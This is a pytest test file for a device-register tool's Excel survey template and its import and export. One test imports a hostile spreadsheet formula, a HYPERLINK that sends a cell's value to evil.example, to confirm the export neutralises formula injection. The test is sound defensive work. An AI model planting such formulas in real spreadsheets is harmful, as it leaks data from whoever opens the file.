"""The survey template and the register export, read back from the files written."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from tests.conftest import Cli
from tests.register.test_import import devices, full_vietnamese, write_csv


@pytest.fixture(autouse=True)
def _messages_in_english(workdir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """These tests read the import's messages in English (tests/register/test_messages.py reads
    them in Vietnamese, the default)."""
    monkeypatch.setenv("AUDITOR_LANG", "en")


def _validations(sheet: Worksheet) -> dict[str, str]:
    """Column letter → the list formula of its drop-down."""
    found = {}
    for validation in sheet.data_validations.dataValidation:
        for cell_range in validation.sqref.ranges:
            found[cell_range.coord.split(":")[0].rstrip("0123456789")] = validation.formula1
    return found


@pytest.mark.parametrize(
    ("lang", "sheets", "category_header"),
    [
        ("vi", ["Hướng dẫn", "Đơn vị", "Thiết bị", "Đường truyền", "Danh mục"], "Loại thiết bị"),
        ("en", ["Instructions", "Units", "Devices", "Links", "Lists"], "Category"),
    ],
)
def test_template_layout(workdir: Path, lang: str, sheets: list[str], category_header: str) -> None:
    cli = Cli("unused")
    cli.ok("register", "template", "survey.xlsx", "--lang", lang, db=False)
    book = openpyxl.load_workbook(workdir / "survey.xlsx")
    assert book.sheetnames == sheets
    device_sheet = book[sheets[2]]
    headers = [c.value for c in device_sheet[3]]
    assert headers[4] == category_header
    assert device_sheet.freeze_panes == "A4"
    lists = _validations(device_sheet)
    assert lists["E"] == f"='{sheets[4]}'!$A$2:$A$19" or lists["E"] == f"={sheets[4]}!$A$2:$A$19"
    list_sheet = book[sheets[4]]
    categories = [list_sheet.cell(row=r, column=1).value for r in range(2, 20)]
    assert ("Máy in" if lang == "vi" else "Printer") in categories
    assert set(_validations(book[sheets[1]])) == {"C"}  # unit kind
    # The form sent to the units asks nothing of SNMP or poller groups.
    everything = " ".join(str(c.value) for sheet in book for row in sheet.iter_rows() for c in row if c.value)
    assert "SNMP" not in everything and "poller" not in everything.lower() and "nhóm thu thập" not in everything
    # It prints: A4 landscape, one page wide, the header on every page, a page number at the foot.
    for name in sheets[1:4]:
        page = book[name].page_setup
        assert (page.orientation, page.paperSize, page.fitToWidth, page.fitToHeight) == ("landscape", 9, 1, 0)
        assert book[name].print_title_rows == "$3:$3" and "&P" in book[name].oddFooter.center.text
        assert book[name].row_dimensions[1].height >= 20  # the title's accents above its capitals
    # Text columns keep serials and asset tags from turning into numbers.
    serial_column = headers.index("Số serial" if lang == "vi" else "Serial number")
    assert device_sheet.column_dimensions["ABCDEFGHIJKLMNO"[serial_column]].number_format == "@"


def test_filled_template_imports(auditor: Cli, workdir: Path) -> None:
    auditor.ok("register", "template", "survey.xlsx", "--lang", "vi", db=False)
    book = openpyxl.load_workbook(workdir / "survey.xlsx")
    book["Đơn vị"].append(["XA-E", "Đảng ủy xã E", "Đảng ủy xã", 21, None])
    book["Thiết bị"].append(
        [
            "XA-E",
            "e-gw",
            "127.0.0.5",
            None,
            "Thiết bị định tuyến (router)",
            "MikroTik",
            "RB4011",
            "HEX1",
            "TS-E1",
            2013,
            "Tốt",
            "Phòng máy",
        ]
    )
    book["Đường truyền"].append(["XA-E", "TSLCD", "Viettel", "K-1", 50, 50, "e-gw", "ether1", "127.0.0.6"])
    book.save(workdir / "filled.xlsx")
    result = auditor.ok("register", "import", "filled.xlsx")
    # How the Office polls it is the IT staff's own sheet, never the unit's form.
    it_sheet = [
        ["hostname", "unit_code", "snmp_version", "snmp_port", "snmp_community"],
        ["e-gw", "XA-E", "2c", "161", "s3cr3t"],
    ]
    auditor.ok("register", "import", str(write_csv(workdir / "snmp.csv", it_sheet)))
    assert result.stdout.splitlines() == [
        "units    1 new, 0 updated, 0 unchanged",
        "devices  1 new, 0 updated, 0 unchanged",
        "links    1 new, 0 updated, 0 unchanged",
    ]
    (device,) = devices(auditor)
    assert (
        device["hostname"],
        device["category"],
        device["vendor"],
        device["serial"],
        device["snmp_version"],
        device["snmp_port"],
    ) == ("e-gw", "router", "MikroTik", "HEX1", "2c", 161)
    assert "s3cr3t" not in json.dumps(device)


def test_export_reimports_unchanged_and_carries_no_secrets(auditor: Cli, workdir: Path) -> None:
    auditor.ok("register", "import", str(full_vietnamese(workdir)))
    auditor.ok(
        "register",
        "import",
        str(
            write_csv(
                workdir / "s.csv",
                [["asset_tag", "unit_code", "snmp_community"], ["TS-001", "XA-A", "s3cr3t-community"]],
            )
        ),
    )
    before = devices(auditor)
    auditor.ok("register", "export", "export.xlsx", "--lang", "vi")
    auditor.ok("register", "export", "export.csv", "--kind", "devices")
    for name in ("export.xlsx", "export.csv"):
        assert b"s3cr3t" not in (workdir / name).read_bytes()
    book = openpyxl.load_workbook(workdir / "export.xlsx")
    assert not any("community" in str(c.value).lower() for c in book["Thiết bị"][3])
    result = auditor.ok("register", "import", "export.xlsx")
    assert result.stdout.splitlines() == [
        "units    0 new, 0 updated, 2 unchanged",
        "devices  0 new, 0 updated, 3 unchanged",
        "links    0 new, 0 updated, 1 unchanged",
    ]
    assert auditor.ok("register", "import", "export.csv").stdout.strip() == "devices  0 new, 0 updated, 3 unchanged"
    assert devices(auditor) == before


def test_export_of_hostile_text_never_makes_a_formula(auditor: Cli, workdir: Path) -> None:
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    auditor.ok("register", "import", str(write_csv(workdir / "u.csv", [["unit_code", "unit_name"], ["XA-H", "H"]])))
    auditor.ok(
        "register",
        "import",
        str(write_csv(workdir / "d.csv", [["unit_code", "hostname", "model"], ["XA-H", "@SUM(1+1)", hostile]])),
    )
    auditor.ok("register", "export", "out.xlsx", "--lang", "vi")
    auditor.ok("register", "export", "out.csv")
    sheet = openpyxl.load_workbook(workdir / "out.xlsx")["Thiết bị"]
    row = [c for c in sheet[4]]
    model = next(c for c in row if c.value == hostile)
    assert model.data_type == "s"  # a string cell, not a formula
    with (workdir / "out.csv").open(encoding="utf-8-sig") as handle:
        (record,) = list(csv.DictReader(handle))
    assert record["model"] == "'" + hostile and record["hostname"] == "'@SUM(1+1)"
    # Read back, the values are what the device had: the quote only guards the spreadsheet.
    auditor.ok("register", "import", "out.csv")
    (device,) = devices(auditor)
    assert (device["hostname"], device["model"]) == ("@SUM(1+1)", hostile)


def test_export_one_unit(auditor: Cli, workdir: Path) -> None:
    auditor.ok("register", "import", str(full_vietnamese(workdir)))
    auditor.ok("register", "export", "xa-a.xlsx", "--unit", "xa-a", "--lang", "vi")
    book = openpyxl.load_workbook(workdir / "xa-a.xlsx")
    codes = {c.value for c in book["Thiết bị"]["A"][3:] if c.value}
    assert codes == {"XA-A"}
    missing = auditor("register", "export", "x.xlsx", "--unit", "NOPE")
    assert missing.exit_code == 1 and "no unit with code 'NOPE'" in missing.stderr
